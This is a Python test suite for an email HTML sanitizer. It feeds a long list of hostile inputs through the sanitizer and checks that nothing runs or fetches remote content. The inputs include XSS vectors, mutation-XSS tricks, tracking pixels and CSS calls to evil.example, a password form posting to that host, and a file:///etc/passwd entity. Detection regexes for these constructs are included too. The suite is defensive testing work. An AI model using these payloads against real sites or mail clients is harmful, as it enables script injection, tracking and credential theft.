"""The HTML of letters made harmless: whatever a stranger writes, nothing is left that runs or fetches."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.letter_html import MOST_HTML, MOST_TAGS, Readable, content_ids, readable

PICTURE = "data:image/png;base64,QUJD"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>OK</button></form>",
    "<input type=image src='https://evil.example/x.gif' formaction='javascript:alert(1)'>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x archive='https://evil.example/x.jar'></applet>",
    "<video src='https://evil.example/x.mp4' poster='https://evil.example/x.png' autoplay></video>",
    "<audio src='https://evil.example/x.mp3' autoplay>",
    "<picture><source srcset='https://evil.example/x.png'><img src='https://evil.example/x.png'></picture>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='HTTP://evil.example/pixel.gif'>",
    "<img src='/letters/1/body'>",
    "<img lowsrc='https://evil.example/x' dynsrc='https://evil.example/x'>",
    "<table background='https://evil.example/x.png'><tr><td background='https://evil.example/x.png'>",
    "<div style='background:url(https://evil.example/x.png)'>",
    "<div style='background:u\\72l(https://evil.example/x.png)'>",
    "<div style='background:/**/url(https://evil.example/x.png)'>",
    "<div style='background-image:image-set(\"https://evil.example/x.png\" 1x)'>",
    "<div style='list-style:url(https://evil.example/x.png);content:url(https://evil.example/y.png)'>",
    "<div style='width:expression(alert(1));behavior:url(#default#time2)'>",
    "<div style='position:fixed;inset:0;z-index:9;opacity:0'>cover</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/actions/5/undo' ping='https://evil.example/'>x</a>",
    "<a href='cid:photo'>x</a>",
    "<a href='https://a.example' target=_top onclick=alert(1)>x</a>",
    "<area href='javascript:alert(1)'><map name=x>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:image/png;base64,AA\"onerror=\"alert(1)'>",
    "<img src='cid:unknown@nowhere'>",
    "<img src='cid:\"><script>alert(1)</script>'>",
    "<img src='cid:javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x-tag is=x onclick=alert(1) contenteditable>x</x-tag>",
    "<p id=pane class=acts hx-get='/me' hx-trigger=load data-key=KeyA>x</p>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<b <script>alert(1)</script>0",
    "<a href=\"https://a.example\" style=\"}</style><script>alert(1)</script>\">x</a>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
]  # fmt: skip

TAG = re.compile(r"<[a-zA-Z][^<>]*>")
RUNS = re.compile(
    r"<(?:script|svg|math|style|link|meta|base|form|input|button|iframe|object|embed|applet|video|audio|source|map"
    r"|area|template|noscript|title|textarea|html|body|head|frame)\b",
    re.IGNORECASE,
)
EVENT = re.compile(r"\s(?:on\w+|hx-\w+|data-\w+|id|class|srcset|ping|background|formaction|action)\s*=", re.I)
SCHEME = re.compile(
    r"(?:href|src)=\"\s*(?!https?://|mailto:|tel:|data:image/(?:png|gif|jpeg|webp|bmp);base64,)"
)
FETCHED = re.compile(r"src=\"(?!data:image/(?:png|gif|jpe?g|webp|bmp);base64,)|url\(|@import|image-set", re.I)


def harmless(html: str) -> list[str]:
    """What is wrong with it, outside its text."""
    tags = " ".join(TAG.findall(html))
    return [found[0] for found in (RUNS.search(html), EVENT.search(tags), SCHEME.search(tags)) if found]


def test_this_test_knows_what_is_hostile():
    """As it was sent, nearly everything of the list is found."""
    written = [html.replace("'", '"') for html in HOSTILE]  # as our own side writes attributes
    found = [html for html in written if harmless(html) or FETCHED.search(html)]
    assert len(found) > len(HOSTILE) * 0.9


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html):
    shown = readable(html, {}, with_outside=False).html
    assert harmless(shown) == []
    assert not FETCHED.search(" ".join(TAG.findall(shown)))
    assert harmless(readable(shown, {}, with_outside=False).html) == [], "and stays so when it is read again"


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_let_in_with_the_pictures(html):
    shown = readable(html, {"photo": PICTURE}, with_outside=True).html
    assert harmless(shown) == []
    assert re.findall(r"src=\"(?!data:|https://)", shown) == []


@given(
    st.lists(st.sampled_from([*HOSTILE, "<b>", "</b>", "'", '"', ">", "<", "<!--", "-->", "x"]), max_size=6)
)
def test_no_mixture_of_hostile_things_is_let_in(parts):
    assert harmless(readable("".join(parts), {}, with_outside=False).html) == []


def test_what_a_letter_looks_like_stays():
    html = (
        '<table width="600" bgcolor="#eee"><tr><td style="color:#123;padding:4px;position:fixed">'
        '<font color="red">Привет</font> <a href="https://a.example/?x=1&amp;y=2">link</a></td></tr></table>'
    )
    shown = readable(html, {}, with_outside=False)
    assert 'bgcolor="#eee"' in shown.html
    assert 'style="color:#123;padding:4px"' in shown.html
    assert '<font color="red">Привет</font>' in shown.html
    assert 'href="https://a.example/?x=1&amp;y=2"' in shown.html
    assert shown.painted


def test_links_open_elsewhere_and_tell_nothing():
    shown = readable('<a href="https://a.example" target="_self" rel="opener">x</a>', {}, with_outside=False)
    assert 'target="_blank"' in shown.html
    assert 'rel="noopener noreferrer nofollow"' in shown.html
    assert "opener noreferrer" in shown.html
    assert "_self" not in shown.html


def test_pictures_of_the_letter_itself_stand_in_it():
    html = '<img src="cid:photo@x"><img src="CID:ph%6Fto@x"><img src="cid:other@x">'
    assert content_ids(html) == {"photo@x", "other@x"}
    shown = readable(html, {"photo@x": PICTURE}, with_outside=False)
    assert shown.html.count(PICTURE) == 2
    assert shown.outside == 0


def test_outside_pictures_are_counted_and_shown_only_when_asked_for_and_only_encrypted():
    html = '<img src="https://a.example/1.png"><img src="http://a.example/2.png"><img src="https://a.example/1.png">'
    assert readable(html, {}, with_outside=False).outside == 2
    assert "a.example" not in readable(html, {}, with_outside=False).html
    assert readable(html, {}, with_outside=True).html.count('src="https://a.example/') == 3


def test_a_letter_without_colours_follows_the_page():
    assert not readable("<p>the colour: red</p>", {}, with_outside=False).painted
    assert readable('<p style="background-color:#fff">x</p>', {}, with_outside=False).painted


def test_what_is_too_long_is_cut_and_said():
    assert readable("<p>" + "x" * MOST_HTML, {}, with_outside=False).cut
    assert readable("<br>" * (MOST_TAGS + 1), {}, with_outside=False).cut
    assert not readable("<br>" * MOST_TAGS, {}, with_outside=False).cut


@pytest.mark.slow
@pytest.mark.parametrize(
    "bomb",
    ["<div>" * 40_000, "<table><tr><td>" * 20_000, "<b><i><u>" * 30_000, "<a href='https://x'><b>" * 20_000,
     "<" * MOST_HTML, "<p style='color:red" * 40_000, "&lt;" * 250_000, "<!--" * 250_000, "cid:" * 250_000],
)  # fmt: skip
def test_no_bomb_takes_long(bomb):
    before = time.process_time()
    assert isinstance(readable(bomb, {}, with_outside=False), Readable)
    content_ids(bomb)
    assert time.process_time() - before < 4, "two seconds on a free core"
